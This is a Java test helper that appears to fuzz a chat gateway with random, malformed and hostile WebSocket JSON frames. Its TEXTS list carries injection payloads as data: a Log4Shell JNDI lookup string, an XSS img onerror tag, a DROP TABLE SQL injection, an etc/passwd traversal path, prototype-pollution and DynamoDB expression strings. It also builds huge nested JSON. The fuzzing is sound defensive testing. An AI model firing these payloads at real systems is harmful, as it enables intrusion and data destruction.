package dev.parley.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;

/// Frames as somebody would send them who means no good, by chance from a seed: valid ones, nearly
/// valid ones, and what is no frame at all. Fields take values that earlier replies held, so that
/// cursors, timestamps and rooms are often right.
final class FrameSource {
  /// As much as the gateway hands on of one message.
  static final int CHARACTERS_MAX = 128 * 1024;

  /// They take long, and there is little that they look at.
  private static final Set<String> SELDOM = Set.of("$default", "quit", "rooms");

  /// Optional fields that are not there beside another, which comes first.
  private static final Map<String, String> EXCLUDING = Map.of("after", "before", "user", "title");

  private static final Set<String> GIVING_ROLES = Set.of("created", "invited");

  /// As if it were a field: the private rooms that replies have named.
  private static final String PRIVATE = "private room";

  private static final int LEARNED_MAX = 60;

  /// Text that means something to somebody: to DynamoDB, to a log, to a page, to Unicode.
  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          "\ud800",
          "a\udfff",
          "\ufeff",
          "\u202eada",
          "\ufffe\uffff",
          "\u3164",
          "e" + "\u0301".repeat(9),
          "\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
          "${jndi:ldap://192.0.2.1/a}",
          "%s%n{}",
          "<img src=x onerror=alert(1)>",
          "$connection",
          "$default",
          "a#b#c",
          "#allowance",
          ":now",
          "room_id = :r OR attribute_exists(room_id)",
          "if_not_exists(head, :x)",
          "'; DROP TABLE ChatMessages; --",
          "../../etc/passwd",
          "__proto__",
          "guest:",
          "p.",
          "d.",
          "null",
          "NaN",
          "-1",
          "x".repeat(63),
          "x".repeat(64),
          "x".repeat(65),
          "x".repeat(128),
          "x".repeat(129),
          "x".repeat(4_000),
          "x".repeat(4_001),
          "😀".repeat(64),
          "😀".repeat(65),
          "😀".repeat(4_000),
          "😀".repeat(4_001));

  private static final List<String> NUMBERS =
      List.of(
          "0",
          "-0",
          "-1",
          "1",
          "1.0",
          "1e0",
          "1.5",
          "100",
          "101",
          "9007199254740991",
          "9007199254740992",
          "-9007199254740992",
          "1795167012345678",
          "1.795167012345678E15",
          "9223372036854775807",
          "-9223372036854775809",
          "1E400",
          "-1e400",
          "1e-400",
          "1e99999999",
          "9".repeat(900),
          "9".repeat(1_100),
          "0." + "0".repeat(900) + "1");

  private static final List<String> OTHERS =
      List.of(
          "true",
          "false",
          "null",
          "[]",
          "{}",
          "[[]]",
          "{\"a\":1}",
          "[null]",
          "[1]",
          "[\"lobby\"]",
          "[\"lobby\",\"lobby\"]");

  /// No JSON objects, or only for a lenient reader.
  private static final List<String> NO_FRAMES =
      List.of(
          "",
          " ",
          "\n",
          "hello?",
          "null",
          "[]",
          "3",
          "\"\"",
          "\"{}\"",
          "{",
          "{}{}",
          "{}]",
          "[{}]",
          "{\"action\"}",
          "{'action':'join'}",
          "{action:\"join\"}",
          "{\"action\":\"join\",}",
          "{\"action\":\"join\" /* */}",
          "\ufeff{}",
          "\u0000",
          "{\"a\":NaN}",
          "{\"a\":01}",
          "{\"a\":\"\\x\"}",
          "{\"a\":\"\n\"}");

  private final Random random;
  private final Map<String, List<String>> actions;
  private final List<String> routes;
  private final Map<String, List<String>> given = new HashMap<>();
  private final Map<String, List<String>> learned = new HashMap<>();
  private final List<Role> roles = new ArrayList<>();

  /// A peer that has a role in a private room, and another user who has one there, if any.
  private record Role(int peer, String room, @Nullable String user) {}

  /// A field, or a second one of the same name.
  private record Field(String name, String json) {}

  /// @param route whose function gets the text
  /// @param meant whether all of its fields are what the protocol asks for
  /// @param peer who sends it; null for anybody
  record Frame(String route, String text, boolean meant, @Nullable Integer peer) {}

  /// @param actions for each route the fields that a frame may hold; a name with `?` may be missing
  FrameSource(Random random, Map<String, List<String>> actions) {
    this.random = random;
    this.actions = actions;
    this.routes = actions.keySet().stream().sorted().toList();
  }

  /// Gives a field these values as a rule, before what is learned.
  void give(String field, Collection<String> texts) {
    given.put(field, texts.stream().map(this::quoted).toList());
  }

  /// Remembers what a reply to a peer holds, by the names of its fields, and who has a role.
  void learn(JsonNode reply, int peer) {
    String room = reply.path("room").asText();
    // Few actions are of use in a direct room.
    if (GIVING_ROLES.contains(reply.path("type").asText())
        && (room.startsWith("p.") || random.nextInt(4) == 0)) {
      roles.add(new Role(peer, room, reply.path("user").textValue()));
    }
    learn(reply);
  }

  /// Forgets the roles of a peer, who is somebody else from now on.
  void forget(int peer) {
    roles.removeIf(role -> role.peer() == peer);
  }

  private void learn(JsonNode reply) {
    reply
        .properties()
        .forEach(
            field -> {
              JsonNode value = field.getValue();
              if (value.isTextual()) {
                String text = value.textValue();
                keep(text.matches("[pd]\\..*") ? PRIVATE : field.getKey(), quoted(text));
              } else if (value.isNumber()) {
                keep(field.getKey(), value.asText());
              } else {
                learn(value);
              }
            });
    if (reply.isArray()) {
      reply.forEach(this::learn);
    }
  }

  private void keep(String field, String json) {
    List<String> known = learned.computeIfAbsent(field, _ -> new ArrayList<>());
    if (known.size() < LEARNED_MAX) {
      known.add(json);
    } else {
      known.set(random.nextInt(LEARNED_MAX), json);
    }
  }

  Frame next() {
    String route = one(routes);
    if (SELDOM.contains(route) && random.nextBoolean()) {
      route = one(routes);
    }
    double kind = random.nextDouble();
    if (kind < 0.03) {
      return new Frame(route, one(NO_FRAMES), false, null);
    }
    List<Field> fields = valid(route);
    Integer peer = mayNeedRole(route) ? aimAtRole(fields) : null;
    if (kind < 0.48 && !route.startsWith("$")) {
      return new Frame(route, text(fields), true, peer);
    }
    int changes = 1 + random.nextInt(2);
    for (int i = 0; i < changes; i++) {
      change(fields);
    }
    String text = text(fields);
    if (kind > 0.96) {
      text = torn(text);
    }
    return new Frame(
        route,
        text.length() > CHARACTERS_MAX ? text.substring(0, CHARACTERS_MAX) : text,
        false,
        peer);
  }

  private List<Field> valid(String route) {
    List<Field> fields = new ArrayList<>();
    fields.add(new Field("action", quoted(route)));
    for (String named : actions.getOrDefault(route, List.of())) {
      boolean optional = named.endsWith("?");
      String name = optional ? named.substring(0, named.length() - 1) : named;
      String other = EXCLUDING.get(name);
      boolean excluded = fields.stream().anyMatch(f -> optional && f.name().equals(other));
      if (!excluded && (!optional || random.nextInt(3) > 0)) {
        fields.add(new Field(name, value(name)));
      }
    }
    if (random.nextBoolean()) {
      fields.add(
          new Field("ref", random.nextBoolean() ? "" + random.nextInt(1_000) : quoted("r-ä")));
    }
    return fields;
  }

  private boolean mayNeedRole(String route) {
    return route.equals("leave") || actions.getOrDefault(route, List.of()).contains("user");
  }

  /// As a rule, names a private room in which somebody has a role.
  ///
  /// @return that peer; null for anybody
  private @Nullable Integer aimAtRole(List<Field> fields) {
    if (random.nextInt(6) == 0) {
      return null;
    }
    if (roles.isEmpty() || random.nextInt(8) == 0) {
      replace(fields, "room", known(PRIVATE));
      return null;
    }
    Role role = one(roles);
    for (int i = 0; i < 3 && role.user() == null; i++) {
      role = one(roles); // most actions name somebody who has a role, too
    }
    replace(fields, "room", quoted(role.room()));
    if (role.user() != null) {
      replace(fields, "user", quoted(role.user()));
    }
    return role.peer();
  }

  private static void replace(List<Field> fields, String name, String json) {
    fields.replaceAll(field -> field.name().equals(name) ? new Field(name, json) : field);
  }

  /// What a client would mean by a field.
  private String value(String name) {
    return switch (name) {
      case "rooms" ->
          IntStream.range(0, random.nextInt(5))
              .mapToObj(_ -> known("room"))
              .collect(Collectors.joining(",", "[", "]"));
      case "message", "why", "title" -> quoted("Hello, " + random.nextInt(20));
      case "id" -> quoted("id-" + random.nextInt(6));
      case "limit" -> "" + (1 + random.nextInt(100));
      case "sender" -> quoted("Ada " + random.nextInt(5));
      case "before", "after", "timestamp" -> known("timestamp");
      case "via" -> known("room");
      case "role" -> quoted(one(List.of("owner", "moderator", "member")));
      case "mine" -> "true";
      case "seconds" -> "" + (1 + random.nextInt(60));
      default -> known(name);
    };
  }

  private String known(String field) {
    if (field.equals("room") && random.nextInt(4) == 0) {
      return random.nextBoolean()
          ? quoted("new-" + random.nextInt(10_000)) // nobody was there
          : known(PRIVATE);
    }
    List<String> usual = given.get(field);
    List<String> known = learned.get(field);
    if (usual != null && (known == null || random.nextInt(10) > 0)) {
      return one(usual);
    }
    return known == null ? quoted("none") : one(known);
  }

  private void change(List<Field> fields) {
    int at = random.nextInt(fields.size());
    Field field = fields.get(at);
    switch (random.nextInt(15)) {
      case 0 -> fields.remove(at);
      case 1 -> fields.set(at, new Field(field.name(), "null"));
      case 2, 3, 4 -> fields.set(at, new Field(field.name(), quoted(one(TEXTS))));
      case 5, 6 -> fields.set(at, new Field(field.name(), one(NUMBERS)));
      case 7 -> fields.set(at, new Field(field.name(), one(OTHERS)));
      case 8 -> fields.add(new Field(field.name(), value(field.name())));
      case 9 -> fields.add(new Field(one(TEXTS).replace("\ud800", "?"), one(OTHERS)));
      case 10 -> fields.set(at, new Field(field.name(), strange(field.json())));
      default -> {
        String known = one(List.of("room", "rooms", "before", "after", "limit", "id", "cursor"));
        fields.add(random.nextInt(fields.size() + 1), new Field(known, value(known)));
      }
    }
    if (fields.isEmpty()) {
      fields.add(field);
    }
  }

  /// Deep, wide or large; seldom, since it takes its time.
  private String strange(String json) {
    int size = 1 << random.nextInt(6 + random.nextInt(10));
    return switch (random.nextInt(6)) {
      case 0 -> "[".repeat(size) + json + "]".repeat(size);
      case 1 -> "{\"a\":".repeat(size) + json + "}".repeat(size);
      case 2 -> "[".repeat(size);
      case 3 ->
          IntStream.range(0, size)
              .mapToObj(_ -> json)
              .limit(1 + CHARACTERS_MAX / (json.length() + 1))
              .collect(Collectors.joining(",", "[", "]"));
      case 4 ->
          IntStream.range(0, size)
              .limit(CHARACTERS_MAX / 8)
              .mapToObj(i -> "\"" + i + "\":0")
              .collect(Collectors.joining(",", "{", "}"));
      default -> quoted("x".repeat(Math.min(size * 4, CHARACTERS_MAX)));
    };
  }

  /// Without a part, or with one twice.
  private String torn(String text) {
    int from = random.nextInt(text.length() + 1);
    int to = Math.min(text.length(), from + 1 + random.nextInt(8));
    if (splits(text, from) || splits(text, to)) {
      return text + text;
    }
    return random.nextBoolean()
        ? text.substring(0, from) + text.substring(to)
        : text.substring(0, to) + text.substring(from);
  }

  /// Whether a code point would be cut there: no gateway hands on half of one.
  private static boolean splits(String text, int at) {
    return at > 0
        && at < text.length()
        && Character.isSurrogatePair(text.charAt(at - 1), text.charAt(at));
  }

  private String text(List<Field> fields) {
    return fields.stream()
        .map(field -> quoted(field.name()) + ":" + field.json())
        .collect(Collectors.joining(",", "{", "}"));
  }

  /// A JSON string: what JSON or UTF-8 cannot hold is escaped, and at times everything.
  private String quoted(String text) {
    boolean everything = random.nextInt(8) == 0 && text.length() < 1_000;
    StringBuilder json = new StringBuilder("\"");
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean pair =
          (i + 1 < text.length() && Character.isSurrogatePair(c, text.charAt(i + 1)))
              || (i > 0 && Character.isSurrogatePair(text.charAt(i - 1), c));
      if (everything || c < ' ' || c == '"' || c == '\\' || (Character.isSurrogate(c) && !pair)) {
        json.append("\\u%04x".formatted((int) c));
      } else {
        json.append(c);
      }
    }
    return json.append('"').toString();
  }

  private <T> T one(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }
}
